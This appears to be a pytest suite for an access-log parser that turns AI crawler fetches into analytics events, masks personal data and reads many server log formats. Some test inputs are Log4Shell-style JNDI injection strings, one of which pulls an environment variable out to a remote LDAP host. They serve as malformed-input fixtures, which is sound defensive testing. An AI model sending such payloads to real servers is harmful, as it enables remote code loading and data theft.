"""Access logs: agents' fetches become events, people's requests are counted, and no line is lost or read by a wrong header."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import eventlib as el
from eventlib.api import ReadLog
from eventlib.geo.traffic import classify_agent
from eventlib.sources import Repairs, detect
from eventlib.sources.access_lines import read_line, read_record
from eventlib.sources.access_log import AccessLogAdapter
from eventlib.sources.files import chunks
from eventlib.sources.finding import find_logs

GPT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.2; +https://openai.com/gptbot"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0"
TIME = "03/Oct/2026:08:15:30 +0200"


def combined(
    agent: str = GPT,
    request: str = "GET /guide HTTP/1.1",
    status: int | str = 200,
    referrer: str = "-",
    more: str = "",
) -> str:
    return f'192.0.2.7 - - [{TIME}] "{request}" {status} 4821 "{referrer}" "{agent}"{more}'


def adapt(raw: str | bytes) -> dict[str, Any] | str:
    """The event of a line, or what it is counted as."""
    kind = AccessLogAdapter()
    record = kind.decode(raw.encode() if isinstance(raw, str) else raw)
    if not isinstance(record, dict):
        return record.code
    found = kind.adapt(record, b"", {}, Repairs())
    return found if isinstance(found, dict) else found.code


def read(path: Path, *lines: str | bytes, source: str = "auto") -> ReadLog:
    path.write_bytes(b"".join((line.encode() if isinstance(line, str) else line) + b"\n" for line in lines))
    return el.read(path, source=source)


def test_an_agents_fetch_holds_what_was_fetched_and_nothing_else():
    event = adapt(combined(request="GET /guide?page=2 HTTP/1.1"))
    assert event == {
        "event_id": None, "event_name": "agent_fetch", "schema_version": "1-0-1", "source": "access_log", "channel": "server",
        "occurred_at": "2026-10-03T08:15:30+02:00", "received_at": "2026-10-03T08:15:30+02:00", "context": {"user_agent": GPT},
        "properties": {
            "observation": "owned", "url": "/guide?page=2", "status_code": 200, "bytes_sent": 4821, "content_id": "/guide",
            "ip_address": "192.0.2.7",
        },
    }  # fmt: skip


def test_what_an_agent_fetched_tells_on_nobody(tmp_path: Path):
    agent = "GPTBot/1.2 (ann@mail.example)"
    private = combined(agent, request="GET /u/ann%40mail.example?token=1234567890&page=2 HTTP/1.1")
    event = adapt(private)
    assert isinstance(event, dict)
    assert event["properties"]["url"] == "/u/[masked]?token=[masked]&page=2"
    assert event["properties"]["content_id"] == "/u/[masked]"
    assert event["context"] == {"user_agent": "GPTBot/1.2 ([e-mail])"}
    log = read(tmp_path / "access.log", private)
    assert [(row["field"], row["rows"]) for row in log.log.repairs if row["scope"] == "agent_fetch"] == [
        ("url", 1)
    ]


def test_the_address_verifies_and_is_dropped(tmp_path: Path):
    log = read(tmp_path / "access.log", combined(), combined())
    assert log.events["agent"].tolist() == ["GPTBot", "GPTBot"]
    assert log.events["event_id"].nunique() == 1, (
        "the same content: told apart by number where ids are made whole"
    )
    assert log.events["minted_id"].tolist() == [True, True]
    assert "192.0.2.7" not in "".join(log.events["properties"])
    assert all(orjson.loads(each)["verification"] == "claimed" for each in log.events["properties"])


@pytest.mark.parametrize(
    ("line", "code"),
    [
        (combined(FIREFOX), "no_visitor"),
        (combined(FIREFOX, status=304), "no_visitor"),
        (combined("-"), "no_visitor"),
        (combined(FIREFOX, referrer="https://chatgpt.com/"), "no_visitor_from_ai"),
        (combined(FIREFOX, "GET /a?utm_source=perplexity HTTP/2.0"), "no_visitor_from_ai"),
        (combined(FIREFOX, referrer="https://chatgpt.com.example.org/"), "no_visitor"),
        (combined(FIREFOX, status=302), "request_failed"),
        (combined(FIREFOX, status=404), "request_failed"),
        (combined(FIREFOX, "POST /guide HTTP/1.1"), "other_method"),
        (combined(GPT, "HEAD /guide HTTP/1.1"), "other_method"),
        (combined(GPT, "GET /a/logo.PNG?v=1 HTTP/1.1"), "asset_request"),
        (combined(FIREFOX, "GET /robots.txt HTTP/1.1"), "asset_request"),
        (combined(FIREFOX, "GET /api/items HTTP/1.1"), "asset_request"),
        (combined("kube-probe/1.31", "GET / HTTP/1.1"), "health_check"),
        (combined(FIREFOX, "GET /healthz HTTP/1.1"), "health_check"),
        (combined("-", r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", 400), "malformed_request"),
        (combined("-", "-", 408), "malformed_request"),
        (combined("-", "${jndi:ldap://192.0.2.9/a}", 400), "malformed_request"),
        (combined("-", "PRI * HTTP/2.0", 400), "other_method"),
        ("#Fields: date time", "log_header"),
        (combined()[:-8], "not_a_request"),
        (combined()[:60], "not_a_request"),
        (f'192.0.2.7 - - [{TIME}] "GET / HTTP/1.1" 200 5 "https://chatgpt.com/"', "not_a_request"),
        (b"\x16\x03\x01\x02\x00\x01", "not_a_request"),
        (b"\xff\xfe", "broken_utf8"),
        (b"{}", "not_a_request"),
        (b'{"status": 200', "broken_json"),
    ],
)  # fmt: skip
def test_what_is_no_event_is_counted_by_its_kind(line: str | bytes, code: str):
    assert adapt(line) == code


def test_errors_that_an_agent_got_name_no_content():
    event = adapt(combined(status=404))
    assert isinstance(event, dict)
    assert event["properties"]["status_code"] == 404
    assert "content_id" not in event["properties"]


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (f'2001:db8::7 - - [{TIME}] "GET /a HTTP/1.1" 200 -', {"address": "2001:db8::7", "size": None, "agent": None}),
        (f'192.0.2.7 - Ann Lee [{TIME}] "GET /a HTTP/1.1" 200 5', {"address": "192.0.2.7", "host": None}),
        (f'- - - [{TIME}] "GET /a HTTP/1.1" 200 5', {"address": "-", "host": None}),
        (f'www.example.org:443 192.0.2.7 - - [{TIME}] "GET /a HTTP/1.1" 200 5', {"host": "www.example.org", "address": "192.0.2.7"}),
        (combined(more=' "198.51.100.4, 10.0.0.1"'), {"address": "198.51.100.4, 10.0.0.1, 192.0.2.7"}),
        (combined(more=' 0.004 "-" upstream "gzip"'), {"address": "192.0.2.7", "agent": GPT}),
        (combined(r"say \"hi\" \x22there\x22 \\ caf\xC3\xA9 \x16"), {"agent": r'say "hi" "there" \ café \x16'}),
        (combined("${jndi:ldap://x/${env:USER}}"), {"agent": "${jndi:ldap://x/${env:USER}}"}),
        (combined(request="GET http://www.example.org/a HTTP/1.1"), {"host": "www.example.org", "target": "/a", "scheme": "http"}),
        (combined(request="GET /a b HTTP/1.1"), {"target": "/a b"}),
        (combined(request="GET /"), {"target": "/"}),
        ('192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1', {"time": "2000-10-10T13:55:36-07:00"}),
    ],
)  # fmt: skip
def test_lines_of_many_servers_are_read(line: str, told: dict[str, object]):
    request = read_line(line)
    assert request is not None
    assert {name: getattr(request, name) for name in told} == told


CLOUDFRONT = (
    "date\ttime\tx-edge-location\tsc-bytes\tc-ip\tcs-method\tcs(Host)\tcs-uri-stem\tsc-status\tcs(Referer)\tcs(User-Agent)\t"
    "cs-uri-query\tx-edge-request-id\tx-host-header\tcs-protocol\tx-forwarded-for"
)
EDGE = "2026-10-03\t08:15:30\tFRA60\t4821\t192.0.2.7\tGET\td.example.net\t/guide\t200\t-\t{agent}\t{query}\t{id}\twww.example.org\thttps\t-"


def edge(agent: str = "GPTBot/1.2%20(+https://openai.com/gptbot)", query: str = "-", number: int = 1) -> str:
    return EDGE.format(agent=agent, query=query, id=f"id{number}==")


def test_cloudfronts_rows_are_read_by_their_header(tmp_path: Path):
    head = ["#Version: 1.0", "#Fields: " + CLOUDFRONT.replace("\t", " ")]
    log = read(
        tmp_path / "edge.log",
        *head,
        edge(),
        edge("Mozilla/5.0%2520Firefox", number=2),
        edge(query="a=1", number=3),
    )
    assert log.log.inputs[0]["source"] == "access_log"
    assert log.ledger.removed("read") == {"log_header": 2, "no_visitor": 1}
    assert log.events["event_id"].tolist() == ["id1==", "id3=="]
    assert log.events["user_agent"].iloc[0] == "GPTBot/1.2 (+https://openai.com/gptbot)"
    urls = [orjson.loads(each)["url"] for each in log.events["properties"]]
    assert urls == ["https://www.example.org/guide", "https://www.example.org/guide?a=1"]
    assert log.events["occurred_at"].iloc[0].isoformat() == "2026-10-03T08:15:30+00:00"


def iis(fields: str, *rows: str) -> list[str]:
    return [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Version: 1.0",
        "#Date: 2026-10-03 08:00:00",
        f"#Fields: {fields}",
        *rows,
    ]


IIS = iis(
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status time-taken",
    "2026-10-03 08:15:30 10.0.0.4 GET /guide id=7 443 - 192.0.2.7 Mozilla/5.0+(compatible;+ClaudeBot/1.0) - www.example.org 200 15",
    "2026-10-03 08:15:31 10.0.0.4 GET /guide - 443 - 192.0.2.8 Mozilla/5.0+(X11) https://claude.ai/ www.example.org 200 15",
)


def test_iis_rows_are_read_by_their_header(tmp_path: Path):
    log = read(tmp_path / "u_ex261003.log", *IIS)
    assert log.ledger.removed("read") == {"log_header": 4, "no_visitor_from_ai": 1}
    assert log.events["agent"].tolist() == ["ClaudeBot"]
    assert orjson.loads(log.events["properties"].iloc[0])["content_id"] == "www.example.org/guide"


def test_each_row_is_read_by_the_last_header_before_it(tmp_path: Path):
    other = iis(
        "date time cs-uri-stem cs-method sc-status cs(User-Agent)",
        "2026-10-03 09:00:00 /b GET 200 GPTBot/1.2",
        "2026-10-03 09:00:01 /c GET",
    )
    path = tmp_path / "u_ex.log"
    path.write_text("\n".join([*IIS, *other, ""]))
    (tmp_path / "z.log").write_text("\n".join([*other, *IIS, ""]))
    for log in (el.read(path), el.read([path, tmp_path / "z.log"])):
        urls = {orjson.loads(each)["url"] for each in log.events["properties"]}
        assert urls == {"https://www.example.org/guide?id=7", "/b"}
        assert set(log.quarantine["code"]) == {"not_a_request"}, "a row with fewer cells than its header has"
    whole = [line for chunk in chunks(path, 0) for line in chunk.data.splitlines()]
    for size in (64, 300, 1000):
        assert [line for chunk in chunks(path, 0, size=size) for line in chunk.data.splitlines()] == whole
    assert el.read(path).quarantine["line"].tolist() == [12]


def test_rows_before_any_header_are_refused(tmp_path: Path):
    log = read(
        tmp_path / "u.log", "#Version: 1.0", "2026-10-03 09:00:00 /b GET 200 GPTBot/1.2", source="access_log"
    )
    assert log.ledger.removed("read") == {"log_header": 1, "not_a_request": 1}


@pytest.mark.parametrize(
    "record",
    [
        {"time_iso8601": "2026-10-03T08:15:30+00:00", "remote_addr": "192.0.2.7", "request": "GET /guide?a=1 HTTP/2.0", "status": "200",
         "body_bytes_sent": "4821", "http_user_agent": GPT, "host": "www.example.org", "scheme": "https"},
        {"msec": "1791015330.000", "remote_addr": "192.0.2.7", "request_method": "GET", "request_uri": "/guide?a=1", "status": 200,
         "body_bytes_sent": 4821, "http_user_agent": GPT, "http_host": "www.example.org:443", "http_referer": ""},
        {"level": "info", "ts": 1791015330.0000001, "logger": "http.log.access", "msg": "handled request", "status": 200, "size": 4821,
         "request": {"remote_ip": "10.0.0.1", "client_ip": "192.0.2.7", "proto": "HTTP/2.0", "method": "GET", "host": "www.example.org",
                     "uri": "/guide?a=1", "headers": {"User-Agent": [GPT]}}},
        {"ClientIP": "192.0.2.7", "ClientRequestHost": "www.example.org", "ClientRequestMethod": "GET", "ClientRequestURI": "/guide?a=1",
         "ClientRequestUserAgent": GPT, "EdgeResponseBytes": 4821, "EdgeResponseStatus": 200, "EdgeStartTimestamp": 1791015330000000000,
         "ClientRequestScheme": "https"},
        {"timestamp": "2026-10-03T08:15:30+0000", "client_ip": "192.0.2.7", "host": "www.example.org", "url": "/guide?a=1",
         "request_method": "GET", "request_user_agent": GPT, "response_status": 200, "response_body_size": 4821},
        {"time_local": "03/Oct/2026:10:15:30 +0200", "remote_addr": "192.0.2.7", "request_method": "GET", "uri": "/guide", "args": "a=1",
         "status": "200", "bytes_sent": "4821", "http_user_agent": GPT, "server_name": "www.example.org"},
        {"ClientAddr": "192.0.2.7:39496", "ClientHost": "192.0.2.7", "DownstreamContentSize": 4821, "DownstreamStatus": 200,
         "RequestHost": "www.example.org", "RequestMethod": "GET", "RequestPath": "/guide?a=1", "RequestScheme": "https",
         "StartUTC": "2026-10-03T08:15:30.587782192Z", "request_User-Agent": GPT, "time": "2026-10-03T08:15:31Z"},
        {"start_time": "2026-10-03T08:15:30.100Z", "method": "GET", "path": "/guide?a=1", "response_code": 200, "bytes_sent": 4821,
         "user-agent": GPT, "downstream_remote_address": "192.0.2.7:40000", ":authority": "www.example.org"},
    ],
)  # fmt: skip
def test_json_logs_of_many_servers_are_read(record: dict[str, Any]):
    event = adapt(orjson.dumps(record))
    assert isinstance(event, dict)
    assert event["occurred_at"][:19] in {"2026-10-03T08:15:30", "2026-10-03T10:15:30"}
    assert event["properties"] == {
        "observation": "owned", "url": "https://www.example.org/guide?a=1", "status_code": 200, "bytes_sent": 4821,
        "content_id": "www.example.org/guide", "ip_address": "192.0.2.7",
    }  # fmt: skip
    assert detect([orjson.dumps(record)])[0] == "access_log"


def test_a_visitors_own_id_makes_its_page_request_an_event(tmp_path: Path):
    mapping = tmp_path / "shop.yaml"
    mapping.write_text("extends: access_log\nsource: shop\nfields: {anonymous_id: visitor}\n")
    request = {"time_iso8601": "2026-10-03T08:15:30+00:00", "remote_addr": "192.0.2.7", "request": "GET /guide HTTP/2.0", "status": 200,
               "http_user_agent": FIREFOX, "http_referer": "https://chatgpt.com/", "host": "www.example.org", "http_cookie": "sid=1",
               "country": "DE"}  # fmt: skip
    lines = [orjson.dumps({**request, "visitor": value}) for value in ("v-1", "-", "")]
    log = read(tmp_path / "access.log", *lines, source=str(mapping))
    assert log.ledger.removed("read") == {"no_visitor_from_ai": 2}
    (event,) = log.events.to_dict("records")
    assert (event["event_name"], event["anonymous_id"], event["source"], event["ai_engine"]) == (
        "page_view",
        "v-1",
        "shop",
        "chatgpt",
    )
    assert event["has_consent"] is False
    properties = orjson.loads(event["properties"])
    assert properties.pop("page_view_id").startswith("access-")
    assert properties == {
        "observation": "owned",
        "content_id": "www.example.org/guide",
        "country": "DE",
        "status_code": 200,
    }


def test_a_mapping_may_say_what_no_request_of_its_log_has(tmp_path: Path):
    mapping = tmp_path / "shop.yaml"
    mapping.write_text(
        "extends: access_log\nsource: shop\nfields: {anonymous_id: visitor}\nrecognise: {none: [checkout]}\n"
    )
    request = {
        "time_iso8601": "2026-10-03T08:15:30+00:00", "request": "GET /guide HTTP/2.0", "status": 200, "http_user_agent": FIREFOX,
        "host": "www.example.org", "visitor": "v-1",
    }  # fmt: skip
    lines = [orjson.dumps(one) for one in (request, {**request, "checkout": 1})]
    log = read(tmp_path / "access.log", *lines, source=str(mapping))
    assert (len(log.events), log.ledger.rejected) == (1, {"not_this_format": 1})


def test_a_mapping_may_say_the_host(tmp_path: Path):
    mapping = tmp_path / "shop.yaml"
    mapping.write_text("extends: access_log\nsource: shop\ndefaults: {host: www.example.org}\n")
    log = read(tmp_path / "access.log", combined(), source=str(mapping))
    assert orjson.loads(log.events["properties"].iloc[0])["content_id"] == "www.example.org/guide"


def test_skipped_lines_are_not_rejected(tmp_path: Path):
    log = read(tmp_path / "access.log", *[combined(FIREFOX)] * 9, combined(), combined()[:50])
    assert log.ledger.rejected == {"not_a_request": 1}
    assert log.ledger.rejected_share == 0.5


def test_the_text_of_a_refused_line_is_not_kept(tmp_path: Path):
    path = tmp_path / "access.log"
    path.write_text(combined()[:50] + "\n" + combined() + "\n")
    prepared = el.prepare(path, keep_raw=True, source="access_log")
    assert prepared.quarantine["code"].tolist() == ["not_a_request"]
    assert prepared.quarantine["raw"].isna().all()


def test_files_are_found_by_the_names_that_servers_give(tmp_path: Path):
    names = [
        "access.log",
        "access.log-20261003.gz",
        "access_log",
        "access_log.1",
        "E1ABC.2026-10-03-08.1a2b3c4d.gz",
        "u_ex261003.log",
    ]
    for name in [*names, "notes.txt", "E1ABC.tar.gz"]:
        (tmp_path / name).write_bytes(gzip.compress(b"") if name.endswith("gz") else b"")
    assert [path.name for path in find_logs(tmp_path)] == sorted(names)


def test_other_formats_are_not_taken_for_it():
    native = {
        "event_name": "agent_fetch",
        "occurred_at": "2026-10-03T08:15:30Z",
        "status": 200,
        "time": "2026-10-03T08:15:30Z",
        "url": "/a",
    }
    assert detect([orjson.dumps(native)])[0] == "native"
    assert detect([b"# a comment", b"plain text"])[0] == "native"
    assert detect([combined(FIREFOX).encode()])[0] == "access_log"


LINES = st.builds(
    lambda line, cuts: cuts[0].join([line[: cuts[1]], line[cuts[2] :]]),
    st.sampled_from(
        [
            combined(),
            combined(FIREFOX),
            edge(),
            IIS[4],
            '{"time": 1, "status": 200, "url": "/", "method": "GET"}',
        ]
    ),
    st.tuples(st.text(max_size=6), st.integers(0, 200), st.integers(0, 200)),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    lines=st.lists(LINES.map(str.encode) | st.binary(max_size=80), min_size=1, max_size=12), w3c=st.booleans()
)
def test_any_line_ends_as_one_thing(tmp_path: Path, lines: list[bytes], *, w3c: bool):
    head = [IIS[3].encode()] if w3c else []
    log = read(tmp_path / "access.log", *head, *lines, source="access_log")
    counted = sum(log.ledger.removed("read").values())
    assert log.ledger.rows_in == len(log.events) + counted
    assert len(log.quarantine) == sum(log.ledger.rejected.values())
    assert set(log.events["event_name"]) <= {"agent_fetch"}
    assert not log.events["anonymous_id"].notna().any()


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**53) + 1, 2**53 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=9),
    lambda inside: st.lists(inside, max_size=2) | st.dictionaries(st.text(max_size=3), inside, max_size=2),
    max_leaves=4,
)
REQUEST = {
    "ts": 1791015330.5, "date": "2026-10-03", "status": 200, "size": 1, "request": "GET / HTTP/1.1", "method": "GET",
    "uri": "/a", "args": "a=1", "scheme": "https", "host": "h", "user_agent": GPT, "http_referer": "https://x/",
    "remote_addr": "::1", "http_x_forwarded_for": "192.0.2.1", "RayID": "r", "visitor": "v",
}  # fmt: skip


@given(
    changes=st.dictionaries(st.sampled_from(sorted(REQUEST)), JSON, min_size=1, max_size=4),
    gone=st.sets(st.sampled_from(sorted(REQUEST))),
)
def test_any_value_of_a_json_log_is_read_or_refused(changes: dict[str, Any], gone: set[str]):
    record = {
        name: value for name, value in {**REQUEST, **changes}.items() if name not in gone or name in changes
    }
    request = read_record(record)
    event = adapt(orjson.dumps(record))
    if isinstance(event, dict):
        assert request is not None
        assert classify_agent(request.agent)[0] is not None
        assert all(
            isinstance(event["properties"][name], str)
            for name in ("url", "ip_address")
            if name in event["properties"]
        )


def test_long_and_odd_lines_take_no_time():
    for text in (
        '"' * 200_000,
        "a " * 200_000,
        "\\" * 200_000,
        " [" * 200_000,
        f"1 - - [{TIME}] " * 5_000,
        combined() * 2_000,
    ):
        assert adapt(text) in {"not_a_request", "malformed_request"}
